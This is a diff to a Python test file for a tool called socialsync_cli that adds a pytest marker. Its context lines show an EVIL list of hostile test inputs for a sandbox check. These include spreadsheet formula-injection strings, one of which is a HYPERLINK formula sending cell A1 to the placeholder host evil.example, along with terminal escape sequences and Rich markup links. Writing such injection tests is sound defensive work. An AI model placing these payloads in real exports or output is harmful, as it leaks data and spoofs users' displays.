@@ -14,6 +14,8 @@ from e2e_reading import rows
 
 from socialsync_cli.sandbox import Behaviour, Sandbox
 
+pytestmark = pytest.mark.thorough
+
 EVIL = (
     '=HYPERLINK("https://evil.example?x="&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
     "\x1b]0;taken\x07\x1b[2J\x1b[31m", "\x9b31m", "[bold red]markup[/] [link=https://evil.example]x[/link]",
